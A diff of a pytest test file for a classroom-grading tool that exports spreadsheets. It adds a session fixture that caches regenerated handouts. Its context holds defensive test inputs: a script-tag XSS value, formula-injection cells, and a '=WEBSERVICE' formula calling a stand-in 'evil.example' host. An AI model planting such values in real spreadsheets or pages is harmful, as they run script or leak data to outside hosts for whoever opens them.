@@ -8,8 +8,10 @@ import pytest
 from mlp2xlsx.classroom.exercise import Exercise
 from mlp2xlsx.classroom.grading import Grades, grade
 from mlp2xlsx.classroom.handouts import handout
+from mlp2xlsx.classroom.marking import marking
+from mlp2xlsx.classroom.originals import remade
 from mlp2xlsx.classroom.records import ClassFolder, load_records
-from tests.classroom.filling import right_answers, submitted
+from tests.classroom.filling import known_handout, right_answers, submitted
 from tests.classroom.lessons import LESSONS
 
 ROSTER = """\
@@ -19,6 +21,22 @@ s002,<script>alert(1)</script>,"=1+1 & ""Co"" Ltd",han@school.example,3
 s003,"@SUM(1)",Meimei,,
 """
 REFUSED = '=WEBSERVICE("http://evil.example/")'
+
+
+@pytest.fixture(scope="session", autouse=True)
+def _handed_out_once():
+    """What a submission is compared with is made once for all that is done to a handout."""
+    made = {}
+
+    def handed_out(exercise):
+        key = known_handout(exercise)
+        if key not in made:
+            made[key] = remade(exercise)
+        return made[key]
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(marking, "remade", handed_out)
+        yield
 
 
 @dataclass(frozen=True)
